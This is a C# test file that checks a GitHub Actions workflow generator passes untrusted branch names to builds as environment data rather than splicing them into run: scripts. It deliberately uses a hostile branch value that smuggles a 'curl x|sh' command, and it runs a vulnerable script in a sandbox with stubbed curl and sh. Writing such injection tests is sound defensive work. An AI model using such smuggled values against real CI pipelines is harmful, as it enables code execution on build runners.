using System.Diagnostics;
using System.Text.RegularExpressions;
using Tollgate.GitHubActions.Tests.TestSupport;
using YamlDotNet.RepresentationModel;

namespace Tollgate.GitHubActions.Tests;

/// <summary>
/// Untrusted event data must reach the build only through env:. GitHub substitutes ${{ }} expressions into a run:
/// script's text before bash sees it, so an expression inside run: lets a branch name run as code.
/// </summary>
public sealed partial class InjectionTests
{
    public const string HostileBranch = "a\";curl x|sh;\"";

    [Fact]
    public void A_hostile_branch_name_given_as_an_input_appears_only_as_data_never_inside_a_run_script()
    {
        var (graph, workflow) = Scenarios.Dispatch(HostileBranch);
        var yaml = WorkflowGenerator.Generate(graph, SampleParameters.Descriptors, workflow);
        var document = Parse(yaml);

        var runScripts = Scalars(document).Where(s => s.Key == "run").Select(s => s.Value).ToList();
        runScripts.Should().NotBeEmpty();
        runScripts.Should().AllSatisfy(script =>
        {
            script.Should().NotContain("${{", "a run: script must not hold expressions GitHub would splice into it");
            script.Should().MatchRegex("^./build.sh [A-Za-z0-9_ ]+ --skip$");
        });

        // The value reaches the build as the parameter's environment variable, from the input (or its default).
        var env = (YamlMappingNode)((YamlMappingNode)document.RootNode)["env"];
        ((YamlScalarNode)env["TARGET_BRANCH"]).Value.Should().Be("${{ inputs.branch || 'a\";curl x|sh;\"' }}");

        // And the hostile text itself is only ever the input's default or inside that env expression, read back intact.
        Scalars(document).Where(s => s.Value.Contains("curl", StringComparison.Ordinal)).Select(s => s.Key)
            .Should().BeEquivalentTo(["default", "TARGET_BRANCH"]);
        var input = (YamlMappingNode)((YamlMappingNode)((YamlMappingNode)((YamlMappingNode)document.RootNode)["on"])["workflow_dispatch"])["inputs"];
        ((YamlScalarNode)((YamlMappingNode)input["branch"])["default"]).Value.Should().Be(HostileBranch);
    }

    [Fact]
    public async Task Running_the_generated_steps_as_GitHub_would_hands_the_hostile_branch_to_the_build_as_data()
    {
        var (graph, workflow) = Scenarios.Dispatch(HostileBranch);
        var yaml = WorkflowGenerator.Generate(graph, SampleParameters.Descriptors, workflow);
        var scripts = Scalars(Parse(yaml)).Where(s => s.Key == "run").Select(s => s.Value).ToList();
        using var sandbox = new Sandbox();

        foreach (var script in scripts)
        {
            await sandbox.RunAsGitHubWouldAsync(script, HostileBranch);
        }

        sandbox.CurlWasRun.Should().BeFalse("the branch name must not run as code");
        sandbox.BuildSawBranch.Should().Be(HostileBranch);

        // The harness does catch injection: a script that splices the input in runs curl.
        await sandbox.RunAsGitHubWouldAsync("./build.sh Deploy --target-branch \"${{ inputs.branch }}\"", HostileBranch);
        sandbox.CurlWasRun.Should().BeTrue();
    }

    private static YamlDocument Parse(string yaml)
    {
        var stream = new YamlStream();
        stream.Load(new StringReader(yaml));
        return stream.Documents.Single();
    }

    private static IEnumerable<(string Key, string Value)> Scalars(YamlDocument document) => Scalars(document.RootNode, string.Empty);

    private static IEnumerable<(string Key, string Value)> Scalars(YamlNode node, string key) => node switch
    {
        YamlScalarNode scalar => [(key, scalar.Value ?? string.Empty)],
        YamlMappingNode map => map.Children.SelectMany(c => Scalars(c.Value, ((YamlScalarNode)c.Key).Value!)),
        YamlSequenceNode sequence => sequence.Children.SelectMany(c => Scalars(c, key)),
        _ => [],
    };

    [GeneratedRegex(@"\$\{\{\s*inputs\.branch\s*\}\}")]
    private static partial Regex BranchExpression();

    /// <summary>A work directory with a build.sh that records what it receives and a curl that records being run.</summary>
    private sealed class Sandbox : IDisposable
    {
        private readonly TempRoot _root = new();

        public Sandbox()
        {
            _root.Write("build.sh", "#!/usr/bin/env bash\nprintf '%s' \"$TARGET_BRANCH\" > received-branch\n");
            _root.Write("bin/curl", "#!/usr/bin/env bash\ntouch \"$SANDBOX/curl-ran\"\n");
            _root.Write("bin/sh", "#!/usr/bin/env bash\ncat > /dev/null\n");
            foreach (var file in new[] { "build.sh", "bin/curl", "bin/sh" })
            {
                if (!OperatingSystem.IsWindows())
                {
                    File.SetUnixFileMode(_root.Path / file, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
                }
            }
        }

        public bool CurlWasRun => File.Exists(_root.Path / "curl-ran");

        public string? BuildSawBranch => File.Exists(_root.Path / "received-branch") ? _root.Read("received-branch") : null;

        // GitHub replaces ${{ inputs.branch }} in the script text, then runs it with the job's env (where the input is data).
        public async Task RunAsGitHubWouldAsync(string script, string branch)
        {
            var expanded = BranchExpression().Replace(script, branch);
            var start = new ProcessStartInfo("bash") { WorkingDirectory = _root.Path, UseShellExecute = false, RedirectStandardError = true, RedirectStandardOutput = true };
            start.ArgumentList.Add("-c");
            start.ArgumentList.Add(expanded);
            start.Environment["TARGET_BRANCH"] = branch;
            start.Environment["SANDBOX"] = _root.Path;
            start.Environment["PATH"] = (_root.Path / "bin") + ":" + Environment.GetEnvironmentVariable("PATH");
            using var process = Process.Start(start)!;
            await process.StandardOutput.ReadToEndAsync();
            await process.StandardError.ReadToEndAsync();
            await process.WaitForExitAsync();
        }

        public void Dispose() => _root.Dispose();
    }
}
